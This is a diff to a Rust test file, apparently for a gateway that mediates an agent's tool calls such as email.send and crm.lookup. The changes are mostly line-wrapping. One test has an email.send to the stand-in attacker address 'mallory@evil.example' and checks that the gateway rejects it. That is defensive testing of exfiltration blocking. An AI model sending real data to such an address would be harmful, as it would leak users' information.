@@ -27,10 +27,16 @@ fn a_server_that_dies_in_a_call_leaves_an_answer_and_an_unknown_execution() {
 fn what_is_not_answered_when_the_client_ends_is_unknown() {
     let world = World::new();
     let mut wire = Wire::new(&world, "hang");
-    let id = wire.begin("tools/call", &json!({ "name": "email.send", "arguments": mail(NAMED) }));
+    let id = wire.begin(
+        "tools/call",
+        &json!({ "name": "email.send", "arguments": mail(NAMED) }),
+    );
     let (rest, ended) = wire.close();
     assert_eq!(rest.len(), 1, "{rest:?}");
-    assert_eq!((&rest[0]["id"], &rest[0]["result"]["isError"]), (&json!(id), &json!(true)));
+    assert_eq!(
+        (&rest[0]["id"], &rest[0]["result"]["isError"]),
+        (&json!(id), &json!(true))
+    );
     assert_eq!(ended.code, 0);
     assert_eq!(world.phases(), ["unknown"]);
 }
@@ -39,7 +45,10 @@ fn what_is_not_answered_when_the_client_ends_is_unknown() {
 fn a_client_that_ends_at_once_gets_its_answers() {
     let world = World::new();
     let mut wire = Wire::new(&world, "");
-    let id = wire.begin("tools/call", &json!({ "name": "email.send", "arguments": mail(NAMED) }));
+    let id = wire.begin(
+        "tools/call",
+        &json!({ "name": "email.send", "arguments": mail(NAMED) }),
+    );
     let (rest, ended) = wire.close();
     assert_eq!((rest.len(), &rest[0]["id"]), (1, &json!(id)), "{rest:?}");
     assert_eq!(ended.code, 0);
@@ -90,7 +99,10 @@ fn without_a_decision_no_call_leaves() {
 fn a_result_that_cannot_be_recorded_yet_holds_up_the_next_call_and_is_not_lost() {
     let mut world = World::new();
     let mut wire = Wire::new(&world, "late");
-    let id = wire.begin("tools/call", &json!({ "name": "crm.lookup", "arguments": { "contact": NAMED } }));
+    let id = wire.begin(
+        "tools/call",
+        &json!({ "name": "crm.lookup", "arguments": { "contact": NAMED } }),
+    );
     while world.outcomes().is_empty() {
         std::thread::yield_now();
     }
@@ -101,7 +113,10 @@ fn a_result_that_cannot_be_recorded_yet_holds_up_the_next_call_and_is_not_lost()
     let text = refusal(&wire.call("crm.lookup", &json!({ "contact": NAMED })));
     assert!(text.contains("could not decide"), "{text}");
     world.start_again();
-    wire.begin("tools/call", &json!({ "name": "email.send", "arguments": mail("mallory@evil.example") }));
+    wire.begin(
+        "tools/call",
+        &json!({ "name": "email.send", "arguments": mail("mallory@evil.example") }),
+    );
     assert!(refusal(&wire.hear()).contains("rejected"));
     assert_eq!(world.phases(), ["finished"]);
 }
@@ -110,7 +125,10 @@ fn a_result_that_cannot_be_recorded_yet_holds_up_the_next_call_and_is_not_lost()
 fn a_cancelled_call_is_recorded_and_not_answered() {
     let world = World::new();
     let mut wire = Wire::new(&world, "late");
-    let id = wire.begin("tools/call", &json!({ "name": "crm.lookup", "arguments": { "contact": NAMED } }));
+    let id = wire.begin(
+        "tools/call",
+        &json!({ "name": "crm.lookup", "arguments": { "contact": NAMED } }),
+    );
     wire.say(&json!({ "jsonrpc": "2.0", "method": "notifications/cancelled", "params": { "requestId": id } }).to_string());
     assert_eq!(wire.ask("ping", &json!({}))["result"], json!({}));
     world.await_phases(&["finished"]);
